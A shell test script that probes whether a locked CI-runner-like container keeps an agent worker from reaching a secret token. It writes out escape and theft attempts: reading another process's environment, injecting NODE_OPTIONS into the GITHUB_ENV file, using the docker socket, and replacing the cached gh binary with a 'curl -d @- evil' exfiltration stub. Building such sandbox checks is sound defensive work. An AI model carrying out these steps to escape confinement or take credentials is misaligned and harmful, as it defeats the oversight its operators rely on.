#!/bin/sh
# The leak probes, run AS THE WORKER in the locked runner-shaped container: one line each,
# "ok NAME" or "LEAK NAME: how". Each tries what an agent there would (sudo included).
# Usage: worker_probes.sh TOKEN
token=$1
rpid=$(cat /run/fake-runner.pid)
temp=/home/runner/work/_temp
genv=$temp/_runner_file_commands/set_env_1
say() { if [ "$2" = leak ]; then echo "LEAK $1: $3"; else echo "ok $1"; fi; }

if { tr '\0' '\n' </proc/"$rpid"/environ; } 2>/dev/null | grep -q "$token"; then
  say environ leak "read /proc/$rpid/environ"
elif sudo -n -u runner cat /proc/"$rpid"/environ 2>/dev/null | tr '\0' '\n' | grep -q "$token"; then
  # As the runner: root in a container without CAP_SYS_PTRACE may not read another's environ.
  say environ leak "sudo -u runner cat /proc/$rpid/environ"
else say environ ok; fi

if grep -q "$token" "$temp/step.sh" 2>/dev/null; then say runner_temp leak "read $temp/step.sh"
elif ls "$temp" >/dev/null 2>&1; then say runner_temp leak "listed $temp"
else say runner_temp ok; fi

if (echo 'NODE_OPTIONS=--require=/tmp/evil.js' >>"$genv") 2>/dev/null; then
  say github_env leak "appended to $genv"
else say github_env ok; fi

if sudo -n true 2>/dev/null; then say sudo leak "sudo -n true"; else say sudo ok; fi

if python3 -c 'import socket; s=socket.socket(socket.AF_UNIX); s.connect("/var/run/docker.sock")' 2>/dev/null; then
  say docker leak "connected to /var/run/docker.sock"
else say docker ok; fi

if echo '* * * * * /bin/true' | crontab - 2>/dev/null; then say crontab leak "installed a crontab"
else say crontab ok; fi

gh=/opt/hostedtoolcache/gh/2.40.0/x64/bin/gh
if (printf '#!/bin/sh\ncurl -d @- evil\n' >"$gh") 2>/dev/null; then say toolcache leak "replaced $gh"
elif touch /opt/hostedtoolcache/planted 2>/dev/null; then say toolcache leak "planted in the toolcache"
else say toolcache ok; fi

if touch /usr/local/bin/git 2>/dev/null; then say usr_local_bin leak "planted /usr/local/bin/git"
else say usr_local_bin ok; fi

# /srv/drop/tool was made by root after the lock; the folder's default ACL decided its mode.
if (echo evil >>/srv/drop/tool) 2>/dev/null; then say default_acl leak "wrote /srv/drop/tool"
else say default_acl ok; fi

if pgrep -u "$(id -u)" -f earlier-phase >/dev/null 2>&1; then
  say leftover_process leak "a process of an earlier phase is still running"
else say leftover_process ok; fi
